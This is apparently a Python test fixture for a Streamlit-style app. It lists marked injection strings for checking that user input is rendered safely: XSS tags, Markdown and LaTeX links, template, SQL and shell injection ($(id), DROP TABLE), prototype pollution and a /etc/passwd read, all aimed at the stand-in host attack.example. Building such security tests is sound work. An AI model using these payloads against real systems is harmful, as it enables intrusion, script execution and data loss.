"""Strings somebody could write into a file to make a page do something, each with its own mark.

What they try to load lies at ``HOST``, which never answers; what they try to run would set
``window.taken`` or open a dialogue.
"""

from __future__ import annotations

HOST = "attack.example"
RUN = "window.taken=1"
# ``@@`` is where the mark of the string stands: what becomes of it is seen around it.
PAYLOADS = (
    # HTML that runs, loads or leads somewhere
    f"<script>{RUN}</script>@@",
    f"<img src=x onerror={RUN}> @@",
    f'"><script src=//{HOST}/x.js></script>@@',
    f"<svg onload={RUN}>@@</svg>",
    f'<a href="javascript:{RUN}">@@</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>">@@</iframe>',
    f'<meta http-equiv="refresh" content="0;url=//{HOST}">@@',
    f"<style>@import '//{HOST}/x.css';*{{display:none}}</style>@@",
    f'<div style="background:url(//{HOST}/x.png)">@@</div>',
    f'<object data="//{HOST}/x">@@</object><embed src="//{HOST}/x">',
    f'<form action="//{HOST}"><button autofocus onfocus={RUN}>@@</button></form>',
    f'<base href="//{HOST}/">@@',
    f"<details open ontoggle={RUN}>@@</details>",
    f'<link rel="stylesheet" href="//{HOST}/x.css">@@',
    f'<math><mtext><img src="//{HOST}/m.png">@@</mtext></math>',
    f"--></textarea></title></style></script><script>{RUN}//@@",
    f"<ScRiPt/x>{RUN}</sCrIpT>@@",
    f"<input autofocus onfocus={RUN} value=@@>",
    f"<svg><image href='//{HOST}/x.png'/><text>@@</text></svg>",
    f"<b>@@</b> <video poster=//{HOST}/v.png><source onerror={RUN}></video>",
    # Entities and escapes that become one of these only later
    "&lt;script&gt;@@&#60;b&#62;&#x3c;i&#x3e;&amp;lt;",
    r"\x3cscript\x3e@@\u003cb\u003e%3Cscript%3E",
    # Markdown
    f"[@@](javascript:{RUN})",
    f"[@@](https://{HOST}/a)",
    f"![@@](https://{HOST}/b.png)",
    f"![@@][r] [r]: https://{HOST}/c.png",
    f"[@@](data:text/html,<script>{RUN}</script>)",
    f"<https://{HOST}/d> @@",
    f"@@ https://{HOST}/e?f=g#h",
    f"@@ www.{HOST}/i",
    f"@@ somebody.else+x@{HOST}",
    f"@@ mailto:somebody@{HOST} xmpp:somebody@{HOST}",
    "**@@** __u__ ~~s~~ `code` ==m== ^s^",
    "# @@ heading",
    "- @@ list 1. 2) > quote",
    "@@ | a | b |\n| --- | --- |\n| c | d |",
    "@@\n\n# heading\n\n<b>bold</b>\n\n---",
    "[^1] @@ [^1]: note [x] [ ] [[wiki]]",
    "@@ [policy](/policy) [top](#glossary)",
    # Formulas
    rf"$\href{{javascript:{RUN}}}{{@@}}$",
    rf"$$\includegraphics{{https://{HOST}/j.png}} @@$$",
    rf"\(@@\) \[x^2\] $x_1$ and $y_2$ \url{{https://{HOST}}}",
    r"$\htmlClass{x}{\def\a{\a\a}@@}$",
    # What Streamlit reads in Markdown
    ":red[@@] :blue-background[x] :small[y]",
    ":material/delete: @@ :streamlit: :smile: :+1:",
    ":primary-badge[@@] :gray-badge[:material/star: x]",
    ":rainbow[@@] --> <-- <-> -- ...",
    # Plotly, Vega, d3 and CSS
    f"<a href='https://{HOST}/k'>@@</a><br><span style='font-size:99px'>x</span>",
    "%{customdata[0]} @@ %{x}<extra></extra> {{value}}",
    f"<i>@@</i> <sup>2</sup> url(https://{HOST}/l) expression(alert(1))",
    f'{{"$schema":"https://{HOST}/s.json","usermeta":"@@"}}',
    # Templates, formats, databases, shells, paths
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} @@ {0} %s %(x)s",
    "Robert'); DROP TABLE initiative;-- @@",
    '@@ " \' `;|&$(id)\\ " or "1"="1',
    f"@@ {{{{constructor.constructor('{RUN}')()}}}}",
    '#read("/etc/passwd") @@ #import "x.typ" = y',
    "=HYPERLINK(A1) @@",
    # Words that mean something else elsewhere
    "null @@ NaN undefined None true [object Object] __proto__",
    '","@@":"x"}],"key":{"__proto__":1}</script>',
    "@@ " + "long" * 40,
    # Right to left, marks that join, pictures: intake lets these through, and no control
    "@@ \u05d0\u05d1\u0628 e\u0301 \u00e9 \u2603 \U0001f4a3",
)  # fmt: skip


def mark(number: int) -> str:
    """Word that stands in one string and nowhere else."""
    return f"zq{number:02d}qz"


STRINGS: tuple[str, ...] = tuple(
    payload.replace("@@", mark(number)) for number, payload in enumerate(PAYLOADS)
)
